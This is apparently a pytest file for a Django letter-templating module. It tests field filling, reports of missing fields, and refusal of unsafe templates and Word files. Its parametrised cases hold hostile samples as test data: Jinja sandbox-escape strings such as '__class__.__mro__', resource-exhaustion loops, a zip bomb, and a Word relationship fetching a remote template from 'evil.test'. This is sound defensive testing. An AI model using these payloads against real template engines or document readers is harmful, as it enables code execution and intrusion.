"""Filling a letter in: what it may say, what it may not, and what it may cost."""

import io
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError

from documents.letters.press import limits, wire
from documents.letters.pressing import fill, inspect
from tests.documents.letters.conftest import word

DATA = {
    "client": {"name": "Ann & <Bo>", "address": "1 Main St\nTroy"},
    "providers": [{"name": "Mercy"}, {"name": "Dr. No", "phone": "555"}],
}


def plain(text: str, data: dict[str, Any] | None = None) -> Any:
    return fill([("plain", text.encode())], DATA if data is None else data)


def faults(text: str) -> list[tuple[str, str]]:
    return [(each.sentence, each.where) for each in inspect([("plain", text.encode())])[0].findings]


def test_fields_conditions_and_loops_are_filled_in() -> None:
    text = "{{ client.name }}{% if client.born_on %} born{% endif %}\n"
    text += "{% for each in providers %}\n- {{ each.name|upper }}\n{% endfor %}"
    done = plain(text)
    assert done.words == ["Ann & <Bo>\n- MERCY\n- DR. NO\n"]
    assert done.gaps == []


def test_every_empty_field_that_is_printed_is_named_by_its_path() -> None:
    text = "{{ client.phone }} {{ firm.name }} {% for each in providers %}{{ each.phone }}{% endfor %}"
    text += "{{ others|join }}"
    assert plain(text).gaps == ["client.phone", "firm.name", "providers[].phone", "others"]


def test_what_is_only_asked_about_is_not_missed() -> None:
    text = "{% if client.phone %}{{ client.phone }}{% endif %}{% for each in lawyers %}{{ each }}{% endfor %}"
    assert plain(text + "{{ client.phone|default('none') }}{{ client.fax == 'x' }}").gaps == []


def test_a_method_of_a_dict_is_no_field() -> None:
    assert plain("{{ client.items }}").gaps == ["client.items"]


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("{{ ''.__class__ }}", "A field hangs on a name"),
        ("{{ client.__class__.__mro__ }}", "“__class__” is no field"),
        ("{% if client._x %}{% endif %}", "“_x” is no field"),
        ("{{ (client.name ~ 'x').__class__ }}", "A field hangs on a name"),
        ("{{ client['__class__'] }}", "“__class__” is no field"),
        ("{{ ''['x'] }}", "A field hangs on a name"),
        ("{{ client.name.upper() }}", "A letter may not call something"),
        ("{% for i in range(10**9) %}x{% endfor %}", "A loop goes over a list of the matter"),
        ("{% set x = 1 %}", "may not set a name"),
        ("{% include 'x' %}", "may not include another file"),
        ("{% macro a() %}{% endmacro %}", "may not define a macro"),
        ("{{ client|attr('x') }}", "There is no filter “attr”"),
        ("{{ 9 * 9 }}", "A letter may not use “mul”"),
        ("{% for a in x recursive %}{% endfor %}", "A loop is plain"),
        (
            "{% for a in x %}{% for b in x %}{% for c in x %}{% endfor %}{% endfor %}{% endfor %}",
            "no more than 2",
        ),
    ],
)
def test_what_is_no_letter_is_refused_at_upload_and_again_when_filled_in(text: str, sentence: str) -> None:
    read, filled = inspect([("plain", text.encode())]), None
    assert sentence in read[0].findings[0].sentence
    with pytest.raises(ValidationError):
        filled = plain(text)
    assert filled is None


def test_a_broken_tag_is_told_with_its_line() -> None:
    sentence, where = faults("Dear\n\n{% if client.name %}\nX")[0]
    assert "endif" in sentence
    assert where == "line 3"


def test_endless_output_is_stopped() -> None:
    text = "{% for a in many %}{% for b in many %}" + "x" * 100 + "{% endfor %}{% endfor %}"
    with pytest.raises(ValidationError, match="grows without end"):
        plain(text, {"many": ["."] * 3000})


def test_endless_work_is_stopped_by_the_system(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "{% for a in many %}{% for b in many %}{% if b == a %}{% endif %}{% endfor %}{% endfor %}"
    with pytest.raises(ValidationError, match="takes too long"):
        plain(text, {"many": list("ab" * 40_000)})


def test_the_press_is_told_no_secret() -> None:
    assert limits.MEMORY < 1024**3
    out = io.BytesIO()
    wire.write(out, {"do": "check"}, b"x")
    out.seek(0)
    assert wire.read(out) == ({"do": "check"}, b"x")


# Word


def test_a_word_letter_is_filled_in_and_stays_a_word_file() -> None:
    body = word("Dear {{ client.name }},", "{%p for each in providers %}", "{{ each.name }}", "{%p endfor %}")
    done = fill([("word", body), ("plain", b"Re {{ client.name }}")], DATA)
    assert done.words == ["Dear Ann & <Bo>,\n\nMercy\n\nDr. No", "Re Ann & <Bo>"]
    assert zipfile.ZipFile(io.BytesIO(done.file)).testzip() is None


def test_a_fault_in_a_word_letter_is_told_with_its_paragraph() -> None:
    read = inspect([("word", word("Hello", "Your {{ client.nme }} and {{ x|attr('y') }}"))])[0]
    assert (read.uses[0].path, read.uses[0].where) == (
        "client.nme",
        "Your {{ client.nme }} and {{ x|attr('y') }}",
    )
    assert "There is no filter “attr”" in read.findings[0].sentence


def test_a_word_letter_with_a_broken_tag_names_it() -> None:
    read = inspect([("word", word("Hello {% if client.name %} there"))])[0]
    assert "endif" in read.findings[0].sentence


def entries(*more: tuple[str, bytes]) -> bytes:
    out = io.BytesIO(word("x"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in more:
            archive.writestr(name, content)
    return out.getvalue()


FETCHES = b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.test/t" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("body", "sentence"),
    [
        (b"%PDF-1.7 not a zip", "not a Word file"),
        (entries(("word/vbaProject.bin", b"x")), "has macros"),
        (entries(("word/_rels/settings.xml.rels", FETCHES)), "from elsewhere"),
        (entries(("word/bomb.xml", b"\0" * (limits.UNPACKED + 1))), "far more than a letter"),
    ],
)
def test_what_is_no_plain_word_file_is_refused(body: bytes, sentence: str) -> None:
    with pytest.raises(ValidationError, match=sentence):
        inspect([("word", body)])


def test_a_file_beyond_the_limit_never_reaches_the_press() -> None:
    with pytest.raises(ValidationError, match="5 MB"):
        inspect([("word", b"x" * (limits.TEMPLATE + 1))])
